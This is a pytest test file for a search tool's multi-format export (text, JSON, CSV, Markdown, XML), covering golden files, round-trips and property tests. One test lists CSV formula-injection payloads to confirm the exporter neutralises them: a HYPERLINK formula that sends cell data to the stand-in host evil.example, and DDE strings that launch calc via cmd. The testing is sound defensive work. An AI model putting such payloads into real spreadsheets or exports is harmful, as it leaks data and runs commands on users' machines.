"""Tests of engine.output.export: golden files per format, round-trips and a property test.

Regenerate the golden files with ``UPDATE_GOLDEN=1 pytest tests/engine/test_export.py`` and read
the diff before committing it.
"""

from __future__ import annotations

import base64
import csv
import io
import json
import os
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from engine.core.models import Category, Entry, SearchResult, Source
from engine.guards.terminal import printable
from engine.output.export import (
    FIELDS,
    ExportFormat,
    csv_cell_text,
    parse_format,
    render,
    result_rows,
)
from engine.output.serialize import RESULT_KEYS

GOLDEN_DIR = Path(__file__).parent / "golden" / "export"
UPDATE_GOLDEN = os.environ.get("UPDATE_GOLDEN") == "1"
EXTENSIONS = {
    ExportFormat.TEXT: "txt",
    ExportFormat.JSON: "json",
    ExportFormat.CSV: "csv",
    ExportFormat.MD: "md",
    ExportFormat.XML: "xml",
}
QUERY = "lancedb filters"

RESULTS = [
    SearchResult(
        entry=Entry(
            id="arch-001",
            content=(
                "# Layers\n\nArchitecture uses a 3-tier knowledge system: rules, knowledge and "
                'the vector DB.\nCamelCase columns need "double quotes" in SQL filters '
                "| see <gotchas> & notes."
            ),
            category=Category.ARCHITECTURE,
            source=Source.MARKDOWN,
            file_path=".claude/knowledge/architecture/overview.md",
            keywords=("architecture", "lancedb"),
            line_start=12,
            line_end=18,
        ),
        score=0.851234,
    ),
    SearchResult(
        entry=Entry(
            id="note-7f3a",
            content="Run `make test` before pushing; CI runs the same command.",
            category=Category.GENERAL,
            source=Source.MANUAL,
        ),
        score=0.72,
    ),
    SearchResult(
        entry=Entry(
            id="gotcha-42",
            content=(
                "  LanceDB filters are SQL strings, so a camelCase column such as contentHash must "
                'be written "contentHash" inside the filter, otherwise it is folded to lower case '
                "and the query fails with a confusing error.\r\n\tIn short: quote, quote, quote. "
                "The same holds for filePath, sectionTitle and every other mixed-case column that "
                "the store defines; see the table schema in vector_store.py for the full list.  "
            ),
            category=Category.GOTCHA,
            source=Source.MARKDOWN,
            file_path=".claude/knowledge/gotchas.md",
            section_title="Gotchas > LanceDB | SQL",
            line_start=40,
        ),
        score=0.4,
        stale=True,
    ),
]


def _entry_result(content: str, **entry: object) -> SearchResult:
    """A one-field-varies result for property tests."""
    fields: dict[str, object] = {"id": "e1", "content": content, **entry}
    return SearchResult(entry=Entry(**fields), score=0.5)  # type: ignore[arg-type]


def _xml_value(element: ET.Element | None) -> str:
    """The text an element carries, decoding base64 where flagged."""
    assert element is not None
    text = element.text or ""
    if element.get("encoding") == "base64":
        return base64.b64decode(text).decode("utf-8", "surrogatepass")
    return text


def _csv_records(output: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(output, newline="")))


# -- golden files


@pytest.mark.parametrize(
    ("case", "results", "query"),
    [("results", RESULTS, QUERY), ("empty", [], QUERY), ("empty_no_query", [], "")],
    ids=["results", "empty", "empty_no_query"],
)
@pytest.mark.parametrize("fmt", list(ExportFormat))
def test_render_matches_golden_file(
    fmt: ExportFormat, case: str, results: list[SearchResult], query: str
) -> None:
    golden = GOLDEN_DIR / f"{case}.{EXTENSIONS[fmt]}"
    output = render(results, fmt, query)
    if UPDATE_GOLDEN:
        golden.parent.mkdir(parents=True, exist_ok=True)
        golden.write_bytes(output.encode("utf-8"))
    assert output == golden.read_bytes().decode("utf-8")


@pytest.mark.parametrize("fmt", list(ExportFormat))
@pytest.mark.parametrize("results", [RESULTS, []])
def test_output_ends_with_exactly_one_newline(
    fmt: ExportFormat, results: list[SearchResult]
) -> None:
    for query in ("", QUERY):
        output = render(results, fmt, query)
        assert output.endswith("\n")
        assert not output.endswith("\n\n")


# -- records


def test_result_rows_are_flat_full_records() -> None:
    rows = result_rows(RESULTS)
    assert [tuple(row) for row in rows] == [FIELDS] * 3
    first, manual, stale = rows
    assert first["rank"] == 1
    assert first["score"] == 0.8512
    assert first["line"] == 12
    assert first["keywords"] == ["architecture", "lancedb"]
    assert manual["line"] is None
    assert manual["filePath"] == ""
    assert stale["stale"] is True
    assert stale["content"] == RESULTS[2].entry.content


def _expected(result: SearchResult, rank: int) -> dict[str, object]:
    entry = result.entry
    return {
        "rank": rank,
        "id": entry.id,
        "score": round(result.score, 4),
        "category": entry.category.value,
        "source": entry.source.value,
        "filePath": entry.file_path,
        "line": entry.line_start or None,
        "sectionTitle": entry.section_title,
        "keywords": list(entry.keywords),
        "stale": result.stale,
        "content": entry.content,
    }


def test_json_round_trips_every_field() -> None:
    parsed = json.loads(render(RESULTS, "json", QUERY))
    for rank, (record, result) in enumerate(zip(parsed, RESULTS, strict=True), start=1):
        assert {k: record[k] for k in FIELDS} == _expected(result, rank)
        assert list(record) == list(RESULT_KEYS)  # the one shape of every face
        assert record["updatedAt"] == result.entry.updated_at
        assert record["explanation"]["vectorRank"] == result.explanation.vector_rank
    assert isinstance(parsed[0]["score"], float)
    assert parsed[1]["line"] is None


def test_csv_round_trips_every_field() -> None:
    records = _csv_records(render(RESULTS, "csv", QUERY))
    assert len(records) == len(RESULTS)
    for rank, (record, result) in enumerate(zip(records, RESULTS, strict=True), start=1):
        expected = _expected(result, rank)
        assert list(record) == list(FIELDS)
        assert int(record["rank"]) == rank
        assert float(record["score"]) == expected["score"]
        assert record["line"] == ("" if expected["line"] is None else str(expected["line"]))
        assert record["keywords"] == ", ".join(result.entry.keywords)
        assert record["stale"] == ("true" if result.stale else "false")
        for name in ("id", "category", "source", "filePath", "sectionTitle", "content"):
            assert csv_cell_text(record[name]) == expected[name]


def test_xml_round_trips_every_field() -> None:
    root = ET.fromstring(render(RESULTS, "xml", QUERY).encode("utf-8"))
    assert root.tag == "searchResults"
    assert root.get("query") == QUERY
    assert root.get("count") == "3"
    elements = root.findall("result")
    for rank, (element, result) in enumerate(zip(elements, RESULTS, strict=True), start=1):
        expected = _expected(result, rank)
        assert int(element.get("rank", "")) == rank
        assert float(_xml_value(element.find("score"))) == expected["score"]
        line = _xml_value(element.find("line"))
        assert (int(line) if line else None) == expected["line"]
        assert [_xml_value(k) for k in element.iterfind("keywords/keyword")] == expected["keywords"]
        assert _xml_value(element.find("stale")) == ("true" if result.stale else "false")
        for name in ("id", "category", "source", "filePath", "sectionTitle", "content"):
            assert _xml_value(element.find(name)) == expected[name]


def test_xml_base64_for_characters_xml_cannot_hold() -> None:
    query = "bell\x07"
    result = _entry_result("nul\x00 here", keywords=("esc\x1b",))
    root = ET.fromstring(render([result], "xml", query))
    assert root.get("queryEncoding") == "base64"
    assert base64.b64decode(root.get("query", "")).decode() == query
    content = root.find("result/content")
    assert content is not None
    assert content.get("encoding") == "base64"
    assert _xml_value(content) == "nul\x00 here"
    assert _xml_value(root.find("result/keywords/keyword")) == "esc\x1b"
    identifier = root.find("result/id")
    assert identifier is not None
    assert identifier.get("encoding") is None


# -- human formats


def test_text_snippet_is_one_line_and_shortened() -> None:
    long = "word " * 200 + "\x1b[31mred"
    lines = render([_entry_result(long)], "text").splitlines()
    assert lines[0] == "1. [0.5000] general  (manual)"
    assert len(lines) == 2
    assert lines[1].startswith("   word word")
    assert lines[1].endswith("…")
    assert len(lines[1]) <= 3 + 240
    assert "\x1b" not in render([_entry_result("a\x1b[2Jb")], "text")


def _md_tokens(output: str) -> list[Token]:
    return MarkdownIt("commonmark").parse(output)


def test_md_holds_content_that_a_table_cell_could_not() -> None:
    """Issue 45: a code fence, a table, a heading and a long text stay whole and inside
    their own result; the title's markup is escaped."""
    content = (
        "# Setup\n\n| a | b |\n|---|---|\n\n```sh\nmake install\n```\n\n````\nnever closed\n"
        + "word " * 200
    )
    results = [_entry_result(content, section_title="Setup > *not* `code`"), RESULTS[1]]
    tokens = _md_tokens(render(results, "md", QUERY))
    assert [t.content for t in tokens if t.type == "fence"] == [
        content + "\n",
        RESULTS[1].entry.content + "\n",
    ]
    headings = [
        tokens[i + 1].content for i, t in enumerate(tokens) if t.tag == "h3" and t.nesting == 1
    ]
    assert headings[0] == "1. Setup > \\*not\\* \\`code\\`"
    assert [t.type for t in tokens if t.type.startswith("table")] == []


# -- property tests

_TRICKY = [",", '"', "\n", "\r", "\r\n", "<", ">", "&", "|", "]]>", "\\", " ", "\t", "\u2028"]
_ANY_CHAR = st.one_of(
    st.characters(),
    st.characters(max_codepoint=0x9F),  # controls, C1 included
    st.characters(categories=["Cs"]),  # lone surrogates
)
_TEXT = st.lists(st.one_of(st.text(_ANY_CHAR), st.sampled_from(_TRICKY))).map("".join)


@settings(max_examples=300)
@given(content=_TEXT, title=_TEXT, keyword=_TEXT)
def test_machine_formats_round_trip_any_text(content: str, title: str, keyword: str) -> None:
    result = _entry_result(content, section_title=title, keywords=(keyword,))

    assert json.loads(render([result], "json"))[0]["content"] == content

    (record,) = _csv_records(render([result], "csv"))
    assert csv_cell_text(record["content"]) == content
    assert csv_cell_text(record["sectionTitle"]) == title
    assert not record["content"].startswith(("=", "+", "-", "@", "\t", "\r"))

    root = ET.fromstring(render([result], "xml", query=content).encode("utf-8"))
    assert _xml_value(root.find("result/content")) == content
    assert _xml_value(root.find("result/sectionTitle")) == title
    assert _xml_value(root.find("result/keywords/keyword")) == keyword
    query = root.get("query", "")
    if root.get("queryEncoding") == "base64":
        query = base64.b64decode(query).decode("utf-8", "surrogatepass")
    assert query == content


@settings(max_examples=200)
@given(contents=st.lists(_TEXT, max_size=5), title=_TEXT, query=_TEXT)
def test_md_holds_each_result_whole_in_its_own_section(
    contents: list[str], title: str, query: str
) -> None:
    """Any content comes back from a CommonMark parser as its result's code block, whole
    (as the terminal guard shows it), one section per result."""
    results = [_entry_result(content, section_title=title) for content in contents]
    output = render(results, "md", query)
    assert output.endswith("\n") and not output.endswith("\n\n")
    tokens = _md_tokens(output)
    if not results:
        assert output.rstrip("\n").endswith("_No results._")
        return
    blocks = [t.content for t in tokens if t.type == "fence"]
    shown = [printable(c) for c in contents]
    assert blocks == [c + "\n" if c and not c.endswith("\n") else c for c in shown]
    assert len([t for t in tokens if t.tag == "h3" and t.nesting == 1]) == len(results)
    assert printable(output) == output  # inert on a terminal


@given(content=_TEXT, query=_TEXT)
def test_text_keeps_result_blocks_apart(content: str, query: str) -> None:
    output = render([_entry_result(content), _entry_result(content)], "text", query)
    assert output.count("\n\n") == (2 if _has_shown_query(query) else 1)


def _has_shown_query(query: str) -> bool:
    return bool("".join(query.split()))


# -- format names


@pytest.mark.parametrize(
    ("name", "expected"),
    [("CSV", "csv"), (" Md ", "md"), ("xml", "xml"), ("markdown", "md"), ("Markdown", "md")],
)
def test_parse_format_is_case_insensitive(name: str, expected: str) -> None:
    assert parse_format(name) is ExportFormat(expected)


@pytest.mark.parametrize("name", ["yaml", "", "mark down"])
def test_parse_format_rejects_unknown_names(name: str) -> None:
    message = f"unknown format '{name}': choose one of text, json, csv, md, xml (markdown is md)"
    with pytest.raises(ValueError) as raised:
        parse_format(name)
    assert str(raised.value) == message


def test_render_rejects_unknown_format() -> None:
    with pytest.raises(ValueError, match="unknown format 'html'"):
        render(RESULTS, "html")


# -- empty results


def test_empty_results_in_every_format() -> None:
    assert render([], "text", QUERY) == f'No results for "{QUERY}".\n'
    assert render([], "text") == "No results.\n"
    assert json.loads(render([], "json")) == []
    assert render([], "csv") == ",".join(FIELDS) + "\n"
    assert _csv_records(render([], "csv")) == []
    assert render([], "md", QUERY) == f'## Results for "{QUERY}"\n\n_No results._\n'
    root = ET.fromstring(render([], "xml", QUERY))
    assert (root.get("count"), root.get("query"), list(root)) == ("0", QUERY, [])


@pytest.mark.parametrize(
    ("content", "written"),
    [
        (
            '=HYPERLINK("http://evil.example/?"&A1, "Click")',
            '\'=HYPERLINK("http://evil.example/?"&A1, "Click")',
        ),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("'=already quoted", "''=already quoted"),
        ("'quoted, not a formula", "'quoted, not a formula"),
        ("a = b + c", "a = b + c"),
    ],
)
def test_csv_neutralises_formula_cells(content: str, written: str) -> None:
    result = _entry_result(content, section_title=content, keywords=("-flag", "ok"))

    (record,) = _csv_records(render([result], "csv"))

    assert record["content"] == record["sectionTitle"] == written
    assert record["keywords"] == "'-flag, ok"
    assert csv_cell_text(record["content"]) == content
    assert record["score"] == "0.5"  # numbers are never prefixed


def test_csv_multi_line_cells_are_quoted_per_rfc_4180() -> None:
    content = 'first line\nsecond "quoted" line\r\nthird'
    output = render([_entry_result(content)], "csv")

    assert f'"{content.replace(chr(34), chr(34) * 2)}"' in output
    (record,) = _csv_records(output)
    assert record["content"] == content


def test_text_does_not_repeat_the_section_title() -> None:
    entry = Entry(
        id="auth-1",
        content="Auth > Tokens\n\n## Tokens\n\nJWT tokens are validated by the gateway.",
        category=Category.ARCHITECTURE,
        source=Source.MARKDOWN,
        file_path=".claude/knowledge/auth.md",
        section_title="Auth > Tokens",
        line_start=5,
    )
    text = render([SearchResult(entry, 0.9)], "text", "jwt")
    assert text.lower().count("tokens") == 2, text  # the title once, then the body
    assert "   Auth > Tokens\n   JWT tokens are validated by the gateway." in text
    note = Entry(id="n", content="# Deploys\nGo out on Tuesdays", section_title="")
    assert "# Deploys Go out on Tuesdays" in render([SearchResult(note, 0.5)], "text")
